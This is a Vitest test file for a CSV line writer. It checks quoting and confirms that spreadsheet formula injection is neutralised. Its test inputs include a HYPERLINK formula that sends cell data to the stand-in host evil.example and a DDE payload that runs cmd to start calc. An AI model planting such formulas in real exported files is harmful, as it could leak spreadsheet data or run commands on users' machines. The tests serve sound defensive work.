import { expect, it } from 'vitest'
import { csvLine } from './csv-line.js'

it.each([
  ['plain', 'plain'],
  ['with, comma', '"with, comma"'],
  ['with "quotes"', '"with ""quotes"""'],
  ['two\nlines', '"two\nlines"'],
  ['a;b', '"a;b"'],
  [' leading', '" leading"'],
  ['', '""'],
  [null, ''],
  [undefined, ''],
  [true, 'true'],
  [false, 'false'],
  [0, '0'],
  [-12.5, '-12.5'],
  ['Zoë 漢字', 'Zoë 漢字'],
])('writes %j as %j', (value, text) => {
  expect(csvLine(['x', value, 'y'])).toBe(`x,${text},y\n`)
})

it.each([
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1)',
  '+1+1',
  '+49 30 1234',
  '-1-1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\tplain',
  '  =1+1',
  '\u200b=1+1',
  '\ufeff@x',
  '＝1+1',
  '－1x',
  '＋1',
  '＠x',
  '-',
  '=',
])('writes a formula of a spreadsheet as text: %j', (text) => {
  const cell = csvLine([text]).trimEnd()
  expect(cell.replace(/^"/, '')).toMatch(/^'/)
})

it.each([
  '-12.50',
  '+4915112345678',
  '-0.000000000000000001',
  '-9223372036854775808',
  '-1e-7',
  '-.5',
  '-Infinity',
  '12',
])('leaves the number %s, which travels as text, a number', (text) => {
  expect(csvLine([text])).toBe(`${text}\n`)
})

it('never writes an empty line, which readers skip', () => {
  expect(csvLine([null])).toBe('""\n')
  expect(csvLine([null, null])).toBe(',\n')
})
